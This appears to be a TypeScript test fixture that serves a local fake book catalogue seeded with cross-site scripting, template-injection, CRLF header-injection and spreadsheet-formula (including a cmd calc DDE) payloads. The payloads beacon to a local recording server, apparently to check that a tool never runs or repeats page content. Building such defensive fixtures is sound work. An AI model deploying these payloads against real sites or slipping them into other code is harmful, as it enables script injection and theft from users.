/** A site that tries to run scripts in whatever shows what it says, and a server outside that such scripts would call. */

import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { hangUp, openPort } from '../../open-port.ts';

export interface HostileSite {
  readonly url: string;
  /** Requests that came to the server outside. */
  readonly called: string[];
  close(): Promise<void>;
}

/** What each text of the site is one of; the last of a list of words that a search finds. */
export function payloads(outside: string): readonly string[] {
  const code = `window.hit=1;alert(1);new Image().src='${outside}/ran'`;
  return [
    `<script>${code}</script>`,
    `</script><script>${code}</script>`,
    `</title></textarea></style></template><img src=x onerror="${code}">`,
    `"><img src=${outside}/picture onerror="${code}">`,
    `' autofocus onfocus='${code}' x='`,
    `" style="background:url(${outside}/style);position:fixed;inset:0" onmouseover="${code}`,
    `<svg><a xlink:href="javascript:${code}"><text>x</text></a><script>${code}</script></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
    `{{constructor.constructor("${code}")()}}`,
    `\${${code}}<%= ${code} %>#{${code}}`,
    `<iframe srcdoc="&lt;script&gt;parent.hit=1&lt;/script&gt;"></iframe><base href="${outside}/">`,
    `<meta http-equiv="refresh" content="0;url=${outside}/refresh"><link rel=stylesheet href="${outside}/sheet">`,
    `--><![CDATA[<script>${code}</script>]]>`,
    `=HYPERLINK("${outside}/cell","x")`,
    `+cmd|' /C calc'!A0`,
    '\u202Egnp.elif\u202C\u2066\u2028\u2029\u0085\uFEFF',
    'nul \u0000 bell \u0007 escape \u001B[31m',
    '\r\nSet-Cookie: hit=1\r\n\r\n<script>window.hit=1</script>',
    'x'.repeat(400),
    '\u0301'.repeat(300),
  ];
}

/** Addresses that a record, a link, a form or a redirect may give. */
const addresses = (code: string, outside: string): readonly string[] => [
  ...[`javascript:${code}`, `JaVaScRiPt\t:${code}`, `java\nscript:${code}`],
  ...[`data:text/html,<script>${code}</script>`, `vbscript:${code}`],
  `${outside}/%00/%0d%0aset-cookie:hit=1/..%2f..%5c"><script>${code}</script>`,
  `/title/3?q="><script>${code}</script>#'onclick='${code}`,
];

const NAMES = ['__proto__', 'constructor', 'toString', 'limit', 'a[b]', 'x\r\nHit: 1'];
const WORDS = ['garden', 'history', 'winter', 'the', 'love', 'war', 'life', 'house', 'story', 'book'];
const RECORDS = 60;
const MEGABYTE = 1_000_000;

const escaped = (text: string): string =>
  text
    .replace(/[&<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`)
    .replaceAll('\r', '&#13;')
    .replaceAll('\n', '&#10;');

/** @param live whether pages run their scripts where a browser reads them, beside saying them as text */
export async function startHostileSite(): Promise<HostileSite> {
  const called: string[] = [];
  const listen = async (answer: (request: IncomingMessage, response: ServerResponse) => void) => {
    const server = createServer(answer);
    return { server, url: `http://127.0.0.1:${await openPort(server)}` };
  };
  const outside = await listen(({ url = '' }, response) => {
    called.push(url);
    response.setHeader('access-control-allow-origin', '*');
    response.end();
  });
  const pages = pagesOf(outside.url);
  const site = await listen((request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://a.test');
    if (pathname === '/robots.txt' || pathname.startsWith('/sitemap')) return response.writeHead(404).end();
    if (pathname === '/away')
      return response
        .writeHead(302, { location: pages.addresses[Number(searchParams.get('to'))] ?? '/' })
        .end();
    response.setHeader('content-type', 'text/html; charset=utf-8');
    response.setHeader('content-disposition', 'inline; filename="..%2f..%2f<script>.html"');
    response.end(pages.answer(pathname, searchParams));
  });
  return { url: `${site.url}/`, called, close: () => closed(site.server, outside.server) };
}

async function closed(...servers: readonly Server[]): Promise<void> {
  for (const server of servers) {
    await hangUp(server);
  }
}

function pagesOf(outside: string) {
  const texts = payloads(outside);
  const code = `window.hit=1;alert(1);new Image().src="${outside}/ran"`;
  const given = addresses(code, outside);
  const text = (at: number): string => texts[at % texts.length] ?? '';
  const link = (at: number): string => escaped(given[at % given.length] ?? '');
  const records = Array.from({ length: RECORDS }, (_, i) => ({
    title: `${WORDS[i % WORDS.length]} and ${WORDS[(i * 3 + 1) % WORDS.length]} ${i} ${text(i)}`,
    // Half of them lead to pages of their own.
    href: i % 2 === 0 ? `/title/${i}` : link(i >> 1),
    author: text(i + 3),
    price: `£${i + 5}.99`,
  }));
  const page = (title: string, body: string): string =>
    `<!doctype html><html lang="en"><head><title>${escaped(title)}</title><meta name="description" content="${escaped(text(0))}">
    <script type="application/ld+json">{"@type":"Book","name":${JSON.stringify(text(0)).replaceAll('<', '\\u003c')}}</script></head>
    <body><h1>Books: search our catalogue of novels by author, title and publisher</h1>${body}
    <script>${code}</script><img src=x onerror='${code}'><svg onload='${code}'></svg></body></html>`;
  const search = `<form action="/find" role="search" class="${escaped(text(3))}" name="${escaped(text(4))}" id="${escaped(text(5))}">
    <label>${escaped(text(0))} Title of the book <input name="q" placeholder="${escaped(text(1))}"></label>
    <label>${escaped(text(2))} Binding <select name="binding"><option value="">any ${escaped(text(3))}</option>
    ${texts.map((one, i) => `<option value="b${i}">${escaped(one)}</option>`).join('')}</select></label>
    ${NAMES.map((name, i) => `<input type="hidden" name="${escaped(name)}" value="${escaped(text(i))}">`).join('')}
    <button>Search books ${escaped(text(6))}</button></form>`;
  const others = given.map(
    (
      _,
      i,
    ) => `<form method="post" action="${link(i)}" name="${escaped(text(i))}"><label>${escaped(text(i + 7))}
      <input name="${escaped(text(i))}"></label><label>Password <input type="password" name="${NAMES[i % 3]}"></label>
      <button>${escaped(text(i))}</button></form>`,
  );
  const home = page(
    `Books ${text(0)}`,
    `${search}<ul>${texts.map((one, i) => `<li><a href="/title/${i}">${escaped(one)}</a></li>`).join('')}
    ${given.map((_, i) => `<li><a href="${link(i)}">book ${i}</a> <a href="/away?to=${i}">novel ${i}</a></li>`).join('')}
    <li><a href="/long">book</a></li><li><a href="/deep">novel</a></li><li><a href="/account">account</a></li></ul>`,
  );
  const found = (query: URLSearchParams): string => {
    const wanted = (query.get('q') ?? '').toLowerCase().trim();
    const hits = records.filter(
      ({ title }) => wanted === '' || title.toLowerCase().split(/\W+/).includes(wanted),
    );
    return page(
      `Books found for ${wanted}`,
      `${search}<p>${hits.length === 0 ? 'No books found.' : `${hits.length} books found`}</p><ol>${hits
        .map(
          ({ title, href, author, price }) =>
            `<li class="book"><h3><a href="${href}">${escaped(title)}</a></h3><dl><dt>Author</dt><dd>${escaped(author)}</dd>
            <dt>${escaped(author)}</dt><dd>${escaped(title)}</dd><dt>Price</dt><dd>${price}</dd></dl></li>`,
        )
        .join('')}</ol>`,
    );
  };
  const title = (at: number): string =>
    page(
      text(at),
      `${search}<h2>${escaped(text(at))}</h2><p>${texts.map(escaped).join(' ')} A book by an author.</p><dl><dt>Author</dt><dd>${escaped(text(at + 1))}</dd></dl>`,
    );
  return {
    addresses: given.map((one) => one.replace(/[\0\r\n]/g, '')),
    answer(path: string, query: URLSearchParams): string {
      if (path === '/find') return found(query);
      if (path === '/account') return page(`Account ${text(1)}`, others.join(''));
      if (path === '/long') return page(`Book ${text(0)} ${'long title '.repeat(MEGABYTE / 11)}`, search);
      if (path === '/deep') return page('Deep', `${search}${'<div>'.repeat(20_000)}book`);
      const at = /^\/title\/(\d+)$/.exec(path)?.[1];
      return at === undefined ? home : title(Number(at));
    },
  };
}
